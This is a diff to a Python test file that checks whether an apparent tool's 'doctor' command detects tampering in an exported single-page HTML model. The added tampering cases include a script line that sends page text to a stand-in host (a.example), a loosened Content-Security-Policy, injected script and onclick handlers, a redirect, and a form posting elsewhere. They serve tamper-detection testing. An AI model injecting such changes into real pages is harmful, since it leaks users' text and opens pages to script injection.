@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+from collections.abc import Callable
 from dataclasses import replace
 from pathlib import Path
 
@@ -19,9 +20,10 @@ from warmstart.model.bundle import Bundle
 from warmstart.model.files import save
 from warmstart.model.model import Model, fresh_head
 from warmstart.serve.one_file.contents import refuse_unable
-from warmstart.serve.one_file.document import joined_scripts, read_page
+from warmstart.serve.one_file.document import joined_scripts, read_page, source_hash
 from warmstart.serve.one_file.tokenizer_spec import tokenizer_spec
 from warmstart.serve.one_file.weights import pack_tensors, quantise_rows, unpack_tensors
+from warmstart.storage import SEAL, sealed
 from warmstart.tokenizer.tokenizer import Tokenizer
 
 pytestmark = pytest.mark.usefixtures("no_second_process")
@@ -65,13 +67,52 @@ def test_a_damaged_page_is_named(cups: Path, tmp_path: Path, capsys: pytest.Capt
     for damaged, words in (
         (flipped, "weights in"),
         (text.replace('"labels": ["tea"', '"labels": ["tee"'), "is damaged or was edited"),
-        (text.replace("module_api", "module_ape"), "script in"),
         ("<!doctype html><p>Hello", "must be a page that"),
     ):
         file.write_text(damaged)
         capsys.readouterr()
         assert main(["doctor", str(file)]) == 2, words
         assert words in said(capsys)
+
+
+def with_script(text: str, change: Callable[[str], str]) -> str:
+    """A page whose script was changed, with the policy that allows it."""
+    script = joined_scripts("main.js")
+    return text.replace(script, change(script)).replace(source_hash(script), source_hash(change(script)))
+
+
+TAMPERED: dict[str, Callable[[str], str]] = {
+    "texts are sent elsewhere": lambda page: with_script(page, lambda script: script + "fetch('//a.example?' + text)").replace(
+        "default-src &#39;none&#39;", "default-src *"),
+    "another script with the same hash in the policy": lambda page: page.replace("module_api", "module_ape"),
+    "a second script": lambda page: page.replace("<footer>", "<script>alert(1)</script><footer>"),
+    "the policy allows everything": lambda page: page.replace("default-src &#39;none&#39;", "default-src *"),
+    "the policy is gone": lambda page: page.replace("Content-Security-Policy", "Content-Policy"),
+    "the page moves on": lambda page: page.replace("<title>", '<meta http-equiv="refresh" content="0; url=https://a.example"><title>'),
+    "a click runs code": lambda page: page.replace("<h1", '<h1 onclick="alert(1)"'),
+    "a form": lambda page: page.replace("<footer>", '<form action="https://a.example"><input name="text"></form><footer>'),
+    "another style": lambda page: page.replace("</style>", "body { background: url(https://a.example) }</style>"),
+    "something after the end": lambda page: page + "<img src=x>",
+}  # fmt: skip
+
+
+def test_a_page_with_anything_else_in_it_is_found_out(cups: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Outside facts and weights it is what export writes, byte for byte; of another version nothing is claimed."""
+    file = exported(cups, tmp_path / "cups.html")
+    text = file.read_text()
+    for name, change in TAMPERED.items():
+        changed = change(text)
+        assert changed != text, name
+        file.write_text(changed)
+        capsys.readouterr()
+        assert main(["doctor", str(file), "--bundle", str(cups)]) == 2, name
+        assert "script, policy and page of" in said(capsys), name
+    facts = json.loads(re.findall(r'id="facts">(.*?)</script>', text)[0])
+    older = sealed({key: value for key, value in facts.items() if key != SEAL} | {"warmstart": "0.0.1"})
+    file.write_text(re.sub(r'(?<=id="facts">).*?(?=</script>)', lambda _: json.dumps(older).replace("<", "\\u003c"), text))
+    assert main(["doctor", str(file), "--bundle", str(cups)]) == 0
+    assert "is of another version, 0.0.1, and was not checked" in (words := said(capsys))
+    assert "is whole" not in words
 
 
 def test_a_page_of_another_model_is_found_out(
